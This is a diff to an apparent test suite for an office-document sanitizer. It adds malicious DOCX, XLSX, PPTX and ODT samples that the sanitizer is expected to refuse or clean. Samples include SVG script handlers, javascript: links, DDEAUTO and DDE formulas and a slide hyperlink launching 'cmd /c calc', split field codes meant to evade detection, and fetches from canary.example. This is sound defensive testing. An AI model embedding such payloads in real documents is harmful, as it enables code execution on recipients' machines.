@@ -126,6 +126,76 @@ def template_elsewhere() -> bytes:
     return packed(parts)
 
 
+def drawing(svg: bytes) -> bytes:
+    return docx(
+        links=(relation(9, b"image", b"media/image1.svg"),),
+        types=(b'<Default Extension="svg" ContentType="image/svg+xml"/>',),
+        **{
+            "word__media__image1.svg": b'<svg xmlns="http://www.w3.org/2000/svg" '
+            b'xmlns:xlink="http://www.w3.org/1999/xlink">' + svg + b"</svg>"
+        },
+    )
+
+
+def old_drawing(attributes: bytes) -> bytes:
+    """Word still reads how drawings were written before 2007."""
+    return docx(
+        body=b'<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml" '
+        b'xmlns:o="urn:schemas-microsoft-com:office:office"><v:shape><v:imagedata '
+        + attributes
+        + b"/></v:shape></w:pict></w:r></w:p>"
+    )
+
+
+def slide(action: bytes, target: bytes) -> bytes:
+    """Acts when it is clicked, or when the mouse only passes over it."""
+    parts = offices.pptx_parts(
+        types=(override("ppt/slides/slide1.xml", MAIN + b"presentationml.slide+xml"),),
+        links=(relation(9, b"slide", b"slides/slide1.xml"),),
+    )
+    parts["ppt/slides/slide1.xml"] = (
+        HEAD
+        + b'<p:sld xmlns:p="%s" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
+        % offices.SLIDES
+        + b'xmlns:r="%s"><p:cSld><p:spTree><a:hlinkMouseOver r:id="rId1" action="%s"/>'
+        % (offices.OFFICE, action)
+        + b"</p:spTree></p:cSld></p:sld>"
+    )
+    parts["ppt/slides/_rels/slide1.xml.rels"] = offices.relations(
+        relation(1, b"hyperlink", target, away=True)
+    )
+    return packed(parts)
+
+
+def field_in_pieces(*pieces: bytes) -> bytes:
+    """Word cuts the code of a field as it likes; people who hide one do, too."""
+    runs = b"".join(
+        b'<w:r><w:instrText xml:space="preserve">' + piece + b"</w:instrText></w:r>"
+        for piece in pieces
+    )
+    begin, end = (
+        b'<w:r><w:fldChar w:fldCharType="' + kind + b'"/></w:r>' for kind in (b"begin", b"end")
+    )
+    return docx(body=b"<w:p>" + begin + runs + end + b"</w:p>")
+
+
+def windows_drawing() -> bytes:
+    """An enhanced metafile, and behind its end a whole photo."""
+    head = (
+        struct.pack("<II", 1, 88)
+        + bytes(32)
+        + b" EMF"
+        + struct.pack("<IIIHH", 0x10000, 108, 2, 1, 0)
+    )
+    head = head.ljust(88, b"\0")
+    end = struct.pack("<IIIII", 14, 20, 0, 16, 20)
+    return docx(
+        links=(relation(9, b"image", b"media/image1.emf"),),
+        types=(b'<Default Extension="emf" ContentType="image/x-emf"/>',),
+        **{"word__media__image1.emf": head + end + metadata.everything()},
+    )
+
+
 def formula(text: bytes) -> bytes:
     return xlsx(cell=b'<c r="A1"><f>' + text + b"</f><v>1</v></c>")
 
@@ -219,7 +289,7 @@ def photo_named_otherwise() -> bytes:
 def huge_picture_inside() -> bytes:
     return docx(
         links=(relation(9, b"image", b"media/image1.png"),),
-        **{"word__media__image1.png": pngs.black(20_000, 20_000)},
+        **{"word__media__image1.png": pngs.black(7_000, 7_000)},
     )
 
 
@@ -275,8 +345,8 @@ def without(path: str, parts: offices.Parts) -> bytes:
 
 refused = partial(item, expect="refused when checked")
 at_once = partial(item, expect="refused")
-kept = partial(item, expect="accepted as is")
-cleaned = partial(item, expect="cleaned", never=(CANARY,))
+cleaned = partial(item, expect="cleaned")
+hidden = partial(item, expect="cleaned", never=(CANARY,))
 WORD_MACROS = MS + b"word.document.macroEnabled.main+xml"
 BOOK_MACROS = MS + b"excel.sheet.macroEnabled.main+xml"
 SLIDE_MACROS = MS + b"powerpoint.presentation.macroEnabled.main+xml"
@@ -405,12 +475,12 @@ ITEMS = (
         "minutes.docx",
         partial(linked, b"hyperlink", b"ms-msdt:/id%20PCWDiagnostic"),
     ),
-    kept(
+    cleaned(
         "T-55-link-of-a-page",
         "minutes.docx",
         partial(linked, b"hyperlink", b"https://www.birmingham.gov.uk/"),
     ),
-    kept(
+    cleaned(
         "T-55-link-of-a-letter",
         "minutes.docx",
         partial(linked, b"hyperlink", b"mailto:send@example.org"),
@@ -430,7 +500,7 @@ ITEMS = (
         "minutes.docx",
         partial(field, b"INCLUDETEXT &quot;\\\\\\\\canary.example\\\\a&quot;"),
     ),
-    kept("T-55-field-of-the-page-number", "minutes.docx", partial(field, b"PAGE")),
+    cleaned("T-55-field-of-the-page-number", "minutes.docx", partial(field, b"PAGE")),
     refused(
         "T-55-formula-that-starts-a-program", "sums.xlsx", partial(formula, b"cmd|'/c calc'!A1")
     ),
@@ -439,7 +509,7 @@ ITEMS = (
         "sums.xlsx",
         partial(formula, b"WEBSERVICE(&quot;http://canary.example/&quot;&amp;A2)"),
     ),
-    kept("T-55-formula-that-adds", "sums.xlsx", partial(formula, b"SUM(B1:B9)")),
+    cleaned("T-55-formula-that-adds", "sums.xlsx", partial(formula, b"SUM(B1:B9)")),
     at_once(
         "T-55-workbook-linked-to-a-program",
         "sums.xlsx",
@@ -453,14 +523,132 @@ ITEMS = (
         ),
     ),
     at_once("T-55-workbook-that-asks-the-web", "sums.xlsx", web_query),
+    refused(
+        "T-54-drawing-in-docx-that-listens",
+        "a.docx",
+        partial(drawing, b"<rect onclick='alert(1)'/>"),
+    ),
+    refused(
+        "T-54-drawing-in-docx-with-a-page",
+        "a.docx",
+        partial(drawing, b"<foreignObject>x</foreignObject>"),
+    ),
+    refused(
+        "T-54-drawing-in-docx-from-elsewhere",
+        "a.docx",
+        partial(drawing, b"<use xlink:href='http://canary.example/#a'/>"),
+    ),
+    refused(
+        "T-54-drawing-in-docx-styled-from-elsewhere",
+        "a.docx",
+        partial(drawing, b"<style>@import 'http://canary.example/'</style>"),
+    ),
+    refused(
+        "T-54-drawing-in-docx-filled-from-elsewhere",
+        "a.docx",
+        partial(drawing, b"<rect fill='url( \"http://canary.example/#a\" )'/>"),
+    ),
+    refused(
+        "T-54-drawing-in-docx-filled-in-escapes",
+        "a.docx",
+        partial(drawing, b"<rect style='fill:\\75rl(http://canary.example/)'/>"),
+    ),
+    refused(
+        "T-54-drawing-in-docx-that-changes-its-link",
+        "a.docx",
+        partial(drawing, b"<set attributeName='href' to='http://canary.example/'/>"),
+    ),
+    refused(
+        "T-54-drawing-in-docx-linked-to-a-script",
+        "a.docx",
+        partial(drawing, b"<a xlink:href='java&#9;script:alert(1)'>x</a>"),
+    ),
+    refused(
+        "T-55-old-drawing-from-elsewhere",
+        "a.docx",
+        partial(old_drawing, b"src='http://canary.example/a.png'"),
+    ),
+    refused(
+        "T-55-old-drawing-from-a-share",
+        "a.docx",
+        partial(old_drawing, b"o:href='\\\\canary.example\\a.png'"),
+    ),
+    refused(
+        "T-55-slide-that-starts-a-program",
+        "talk.pptx",
+        partial(slide, b"ppaction://program", b"cmd.exe%20/c%20calc"),
+    ),
+    refused(
+        "T-55-slide-that-calls-a-macro",
+        "talk.pptx",
+        partial(slide, b"ppaction://macro?name=Canary", b""),
+    ),
+    refused(
+        "T-55-slide-linked-to-a-share",
+        "talk.pptx",
+        partial(slide, b"ppaction://hlinkfile", b"file:///\\\\canary.example\\run.exe"),
+    ),
+    refused(
+        "T-55-field-in-pieces-that-starts-a-program",
+        "a.docx",
+        partial(field_in_pieces, b"D", b"DEA", b"UTO cmd &quot;/k calc&quot;"),
+    ),
+    refused(
+        "T-55-field-in-pieces-that-fetches",
+        "a.docx",
+        partial(
+            field_in_pieces, b"INCLUDE", b"PICTURE &quot;http:", b"//canary.example/a.png&quot;"
+        ),
+    ),
+    refused(
+        "T-55-formula-of-an-exchange",
+        "sums.xlsx",
+        partial(formula, b"DDE(&quot;cmd&quot;,&quot;/c calc&quot;,&quot;a&quot;)"),
+    ),
+    cleaned(
+        "T-55-formula-with-a-bar-in-its-words",
+        "sums.xlsx",
+        partial(formula, b"A1&amp;&quot; | &quot;&amp;B1"),
+    ),
+    hidden("T-52-photo-behind-a-drawing-of-windows", "visit.docx", windows_drawing),
+    refused(
+        "T-55-odt-link-of-a-script",
+        "a.odt",
+        partial(odt, body=b'<text:a xlink:href="javascript:alert(1)">x</text:a>'),
+    ),
+    refused(
+        "T-55-odt-link-of-a-command",
+        "a.odt",
+        partial(odt, body=b'<text:a xlink:href="vnd.libreoffice.command:macro:///a">x</text:a>'),
+    ),
+    refused(
+        "T-55-odt-link-of-an-order",
+        "a.odt",
+        partial(odt, body=b'<text:a xlink:href=".uno:RunMacro">x</text:a>'),
+    ),
+    refused(
+        "T-56-odt-field-that-calls",
+        "a.odt",
+        partial(
+            odt, body=b'<text:p><text:execute-macro text:name="Standard.Module1.Main"/></text:p>'
+        ),
+    ),
+    cleaned(
+        "T-55-odt-link-of-a-page",
+        "a.odt",
+        partial(
+            odt,
+            body=b'<text:p><text:a xlink:href="https://www.birmingham.gov.uk/">x</text:a></text:p>',
+        ),
+    ),
     refused("T-55-drawing-with-script", "minutes.docx", drawing_inside),
-    refused("T-51-docx-with-picture-of-400-megapixels", "minutes.docx", huge_picture_inside),
-    cleaned("T-52-photo-in-docx", "visit.docx", partial(with_photo, "docx")),
-    cleaned("T-52-photo-in-docx-named-png", "visit.docx", photo_named_otherwise),
-    cleaned("T-52-photo-as-thumbnail-of-docx", "visit.docx", with_thumbnail),
-    cleaned("T-52-photo-in-xlsx", "visit.xlsx", partial(with_photo, "xlsx")),
-    cleaned("T-52-photo-in-pptx", "visit.pptx", partial(with_photo, "pptx")),
-    cleaned("T-52-photo-in-odt", "visit.odt", partial(with_photo, "odt")),
+    refused("T-51-docx-with-picture-of-49-megapixels", "minutes.docx", huge_picture_inside),
+    hidden("T-52-photo-in-docx", "visit.docx", partial(with_photo, "docx")),
+    hidden("T-52-photo-in-docx-named-png", "visit.docx", photo_named_otherwise),
+    hidden("T-52-photo-as-thumbnail-of-docx", "visit.docx", with_thumbnail),
+    hidden("T-52-photo-in-xlsx", "visit.xlsx", partial(with_photo, "xlsx")),
+    hidden("T-52-photo-in-pptx", "visit.pptx", partial(with_photo, "pptx")),
+    hidden("T-52-photo-in-odt", "visit.odt", partial(with_photo, "odt")),
     at_once(
         "T-56-odt-with-basic", "minutes.odt", partial(odt_with_script, "Basic/Standard/Module1.xml")
     ),
@@ -580,6 +768,8 @@ ITEMS = (
         for form, make in (("docx", docx), ("xlsx", xlsx), ("pptx", pptx), ("odt", odt))
     ),
     at_once("T-59-docx-cut-before-its-end", "a.docx", lambda: docx()[:-20]),
-    kept("T-59-docx-named-pdf", "minutes.pdf", partial(docx, body=paragraph(b"Named otherwise"))),
-    kept("T-59-xlsx-named-docx", "minutes.docx", xlsx),
+    cleaned(
+        "T-59-docx-named-pdf", "minutes.pdf", partial(docx, body=paragraph(b"Named otherwise"))
+    ),
+    cleaned("T-59-xlsx-named-docx", "minutes.docx", xlsx),
 )
